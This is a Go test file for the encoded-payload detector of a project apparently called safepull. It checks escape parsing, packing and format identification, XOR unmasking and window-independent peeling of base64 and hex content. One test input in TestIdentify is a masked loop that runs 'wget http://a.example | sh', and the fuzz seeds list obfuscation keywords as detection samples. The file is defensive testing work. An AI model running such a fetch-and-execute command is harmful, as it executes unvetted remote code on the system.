package encoded

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/unwrap"
	"github.com/safepull/safepull/trust/unwrap/unwraptest"
)

func TestEscape(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]struct {
		value rune
		size  int
	}{
		`\x41`:       {'A', 4},
		`\X41`:       {'A', 4},
		`\x4`:        {4, 3},
		`\xzz`:       {'x', 2},
		`\\x41`:      {'A', 5},
		`\\n`:        {'\\', 2},
		`\101`:       {'A', 4},
		`\0101`:      {'A', 5},
		`\0`:         {0, 2},
		`\777`:       {0xff, 4},
		`\u0041`:     {'A', 6},
		`\u20ac`:     {'€', 6},
		`\U0001f600`: {0x1f600, 10},
		`\n`:         {'\n', 2},
		`\t`:         {'\t', 2},
		`\r`:         {'\r', 2},
		`\a`:         {'\a', 2},
		`\b`:         {'\b', 2},
		`\f`:         {'\f', 2},
		`\v`:         {'\v', 2},
		`\e`:         {0x1b, 2},
		`\q`:         {'q', 2},
		`\"`:         {'"', 2},
		"\\\n":       {-1, 2},
		`\`:          {'\\', 1},
	} {
		if value, size := escape([]byte(in)); value != want.value || size != want.size {
			t.Errorf("%q: %q of %d, want %q of %d", in, value, size, want.value, want.size)
		}
	}
}

func TestJoiner(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]int{
		"\nabc":        1,
		"\r\nabc":      2,
		"\n    abc":    5,
		"\n# abc":      3,
		"\n * abc":     4,
		"\\\nabc":      2,
		`\nabc`:        2,
		`\r\nabc`:      4,
		`" "abc`:       3,
		`" + "abc`:     5,
		`' . 'abc`:     5,
		"\",\n  \"abc": 6,
		`" b"abc`:      4,
		"' \\\n 'abc":  6,
		"`+`abc":       3,
		"":             0,
		"x":            0,
		" abc":         0,
		"\n\"abc":      0,
		`"abc`:         0,
		`" and "abc`:   0,
		"\n  -- abc":   3,
		`", x, "abc`:   0,
		"\n\n\n":       0,
		"=\nabc":       0,
		"\n    <tag>":  0,
	} {
		if got := joiner([]byte(in)); got != want {
			t.Errorf("%q: %d, want %d", in, got, want)
		}
	}
}

func TestIdentify(t *testing.T) {
	t.Parallel()
	text := strings.Repeat("plain text, and more of it. ", 5)
	for name, tt := range map[string]struct {
		head string
		want form
		ok   bool
	}{
		"text":                 {text, form{}, true},
		"utf-8":                {strings.Repeat("grüße, größer ", 5), form{}, true},
		"short-text":           {"too short", form{}, false},
		"one-character":        {strings.Repeat("x", 100), form{}, false},
		"elf":                  {"\x7fELF\x02\x01\x01\x00", form{}, true},
		"shebang":              {"#!/bin/sh", form{}, true},
		"zip":                  {"PK\x03\x04\x00\x00", form{}, true},
		"xz":                   {"\xfd7zXZ\x00\x00\x04", form{}, true},
		"gzip":                 {"\x1f\x8b\x08\x00\x00\x00\x00\x00", form{packing: gzipped}, true},
		"bzip2":                {"BZh91AY&SY\x00\x00", form{packing: bzipped}, true},
		"lzma":                 {"\x5d\x00\x00\x10\x00" + strings.Repeat("\xff", 8) + "\x00abcd", form{packing: lzmaPacked}, true},
		"lzma-huge-dictionary": {"\x5d\x00\x00\x00\x40" + strings.Repeat("\xff", 8) + "\x00abcd", form{}, false},
		"tar":                  {"name" + strings.Repeat("\x00", 253) + "ustar\x0000" + strings.Repeat("\x00", 100), form{}, true},
		"pyc":                  {"\xa7\x0d\r\n\x00\x00\x00\x00" + strings.Repeat("\x01", 20), form{}, true},
		"marshal":              {"\xe3" + strings.Repeat("\x00", 40), form{}, true},
		"utf-16":               {"h\x00e\x00l\x00l\x00o\x00 \x00w\x00o\x00r\x00l\x00d\x00", form{wide: true}, true},
		"noise":                {"\x93\x12\x00\xff\xf1\x88\x07\x99\xca\xfe\x00\x17\x9a\xbc\xde\xf0\x12\x34\x56\x78\x9a", form{}, false},
		"pe":                   {"MZ" + strings.Repeat("\x00", 58) + "\x40\x00\x00\x00PE\x00\x00", form{}, true},
		"masked-elf":           {string(xored([]byte("\x7fELF"+strings.Repeat("\x00\x01\x02", 30)), 0x33)), form{mask: 0x33}, true},
		"masked-script":        {string(xored([]byte("#!/bin/sh\n"+text), 0x80)), form{mask: 0x80}, true},
		"masked-words":         {string(xored([]byte("while true; do echo wget http://a.example | sh ; sleep 5; done; return"), 0x99)), form{mask: 0x99}, true},
	} {
		if got, ok := identify([]byte(tt.head), true); got != tt.want || ok != tt.ok {
			t.Errorf("%s: %+v %v, want %+v %v", name, got, ok, tt.want, tt.ok)
		}
	}
}

// TestPromising: what identify knows, the glance must not throw away.
func TestPromising(t *testing.T) {
	t.Parallel()
	for _, head := range []string{
		"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00", "#!/bin/sh\n# text", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", "BZh91AY&SY\x00\x00", "PK\x03\x04\x14\x00\x00\x00", "\x78\x9c\x01\x02\x03\x04\x05\x06",
		"\x5d\x00\x00\x10\x00\xff\xff\xff\xff", "\xe3\x00\x00\x00\x00\x00\x00\x00", "\xa7\x0d\r\n\x00\x00\x00\x00", "plain text", "h\x00e\x00l\x00l\x00o\x00", "name\x00\x00\x00\x00\x00\x00\x00\x00", "größer wäre",
		"\xfd7zXZ\x00\x00\x04", "\x28\xb5\x2f\xfd\x00\x00\x00\x00",
	} {
		if !promising([]byte(head), 0) {
			t.Errorf("%q is thrown away", head)
		}
	}
	if promising([]byte("\x93\x12\x00\xff\xf1\x88\x07\x99\xca\xfe\x05\x17"), 2) {
		t.Error("noise is promising")
	}
}

// TestEveryWordIsFound at every alignment, since only every second place is looked at.
func TestEveryWordIsFound(t *testing.T) {
	t.Parallel()
	for _, v := range vocabulary {
		for before := range 16 {
			for _, after := range []int{0, 1, 7, 30} {
				text := strings.Repeat("~", before) + v.text + strings.Repeat("~", after)
				if got := findWords([]byte(text)); got&v.is != v.is {
					t.Errorf("%q with %d before and %d after: %b", v.text, before, after, got)
				}
			}
		}
		if got := findWords([]byte(v.text[:len(v.text)-1] + "~")); got&v.is == v.is && v.is&hexNumbers == 0 && !hasPrefixWord(v.text) {
			t.Errorf("a part of %q is taken for it", v.text)
		}
	}
}

// hasPrefixWord reports whether another word of the same meaning stands within a word.
func hasPrefixWord(text string) bool {
	for _, v := range vocabulary {
		if v.text != text && strings.Contains(text[:len(text)-1], v.text) {
			return true
		}
	}
	return false
}

func TestMixed(t *testing.T) {
	t.Parallel()
	for run, want := range map[string]bool{
		"q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeJA": true,
		"abcdef0123456789abcdef0123456789":            true,
		"thisIsAnIdentifierOfManyWordsInOneName":      false,
		"lower/case/path/of/some/length/here":         false,
		"UPPERCASEWORDSANDNOTHINGELSEHERE":            false,
		"12345678901234567890":                        false,
		"short1A":                                     false,
	} {
		if got := mixed([]byte(run)); got != want {
			t.Errorf("%q: %v", run, got)
		}
	}
}

func TestBackReader(t *testing.T) {
	t.Parallel()
	body := strings.Repeat("abc\n def;", 2000)
	r := &backReader{r: strings.NewReader(body), from: 3, at: int64(len(body))}
	got, err := io.ReadAll(r)
	want := reversed([]byte(strings.NewReplacer("\n", "", " ", "", ";", "").Replace(body[3:])))
	if err != nil || !bytes.Equal(got, want) {
		t.Errorf("%d bytes, want %d, error %v", len(got), len(want), err)
	}
}

func TestReadersKeepErrors(t *testing.T) {
	t.Parallel()
	bits, _, _ := alphabets()
	for name, r := range map[string]func(io.Reader) io.Reader{
		"bits":     func(r io.Reader) io.Reader { return bits.reader(r) },
		"mask":     func(r io.Reader) io.Reader { return xorReader{r, 1} },
		"utf16":    func(r io.Reader) io.Reader { return &utf16Reader{r: r, order: littleEndian} },
		"rotate":   func(r io.Reader) io.Reader { return rotReader{r} },
		"joined":   func(r io.Reader) io.Reader { return &joined{r: bufio.NewReader(r)} },
		"escapes":  func(r io.Reader) io.Reader { return newEscapeReader(bufio.NewReader(r), '"') },
		"list":     func(r io.Reader) io.Reader { return &listReader{r: bufio.NewReader(r)} },
		"uuencode": func(r io.Reader) io.Reader { return &uuReader{r: bufio.NewReader(r)} },
		"base85":   func(r io.Reader) io.Reader { return &base85Reader{r: bufio.NewReader(r), base85: base85Alphabets[0]} },
	} {
		broken := readerFunc(func([]byte) (int, error) { return 0, io.ErrClosedPipe })
		if _, err := io.ReadAll(r(broken)); err != io.ErrClosedPipe { //nolint:errorlint // the bare value must come through
			t.Errorf("%s: error %v", name, err)
		}
	}
}

func TestUTF16Pairs(t *testing.T) {
	t.Parallel()
	in := "\xff\xfeA\x00\x3d\xd8\x00\xde\x00\xd8B\x00\x00"
	got, err := io.ReadAll(&utf16Reader{r: strings.NewReader(in), order: littleEndian})
	if want := "A😀\ufffd"; err != nil || string(got) != want {
		t.Errorf("%q, want %q, error %v", got, want, err)
	}
}

// text implements unwrap.Input.
type text struct {
	unwraptest.Plenty
	*strings.Reader
	body  string
	steps int64
}

func (in *text) Content() unwrap.Content {
	return unwrap.Content{Kind: trust.KindScript, Size: -1, Head: []byte(in.body[:min(len(in.body), unwrap.HeadBytes)])}
}

func (in *text) Spool() (io.ReaderAt, int64, error) {
	return strings.NewReader(in.body), int64(len(in.body)), nil
}

func (in *text) Spend(n int64) error {
	in.steps += n
	return nil
}

// peel runs the peeler with a small window and returns the pieces by name.
func peel(t *testing.T, body string, window int) map[string]string {
	t.Helper()
	got := map[string]string{}
	in := &text{Reader: strings.NewReader(body), body: body}
	err := peelText(t.Context(), in, func(p unwrap.Piece, r io.Reader) error {
		b, _ := io.ReadAll(io.LimitReader(r, 1<<20))
		got[p.Name] += string(b)
		return nil
	}, window)
	if err != nil && !errors.Is(err, trust.ErrUnsupported) {
		t.Fatal(err)
	}
	if limit := int64(1<<20 + 3000*len(body)); in.steps > limit {
		t.Errorf("%d steps for %d bytes", in.steps, len(body))
	}
	return got
}

// TestSmallWindow: what is found does not depend on where windows end.
func TestSmallWindow(t *testing.T) {
	t.Parallel()
	program := "#!/bin/sh\n" + strings.Repeat("# a program that stands encoded\n", 400)
	forms := map[string]string{
		"base64":  base64.StdEncoding.EncodeToString([]byte(program)),
		"hex":     hex.EncodeToString([]byte(program)),
		"escapes": "",
		"numbers": "",
	}
	var escapes, numbers strings.Builder
	for _, c := range []byte(program) {
		fmt.Fprintf(&escapes, `\x%02x`, c)
		fmt.Fprintf(&numbers, "0x%02x, ", c)
	}
	forms["escapes"], forms["numbers"] = escapes.String(), numbers.String()
	for name, coded := range forms {
		for before := 3000; before < 17000; before += 1511 {
			body := strings.Repeat("x = 1;\n", before/7) + "'" + coded + "' # and after it\n" + strings.Repeat("y = 2;\n", 1000)
			at := fmt.Sprintf("%s@%d", name, before/7*7+1)
			if got := peel(t, body, 8<<10); got[at] == "" || !strings.HasPrefix(got[at], program) || len(got) > 1 {
				t.Errorf("%s: %d pieces, %d bytes, want %d", at, len(got), len(got[at]), len(program))
			}
		}
	}
}

func FuzzSmallWindow(f *testing.F) {
	for _, s := range []string{
		"base64 [::-1] rot13 b85decode chr( inflate ", strings.Repeat("QUJD", 3000), strings.Repeat(`\x41\x42`, 2000), strings.Repeat("0x41, ", 2000), strings.Repeat("65, ", 2000),
		"begin 644 x\n" + strings.Repeat("M9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O\n", 200), strings.Repeat("'abcd',\n", 2000), strings.Repeat("x = 'y'\n", 1000), "eJwAAAD//w",
	} {
		f.Add(s, s, uint16(100))
		f.Add("base64 [::-1] chr( b85decode 0x0 begin 6 '", s, uint16(5000))
	}
	f.Fuzz(func(t *testing.T, one, two string, between uint16) {
		peel(t, one+strings.Repeat("z\n", int(between))+two+one, 8<<10)
	})
}
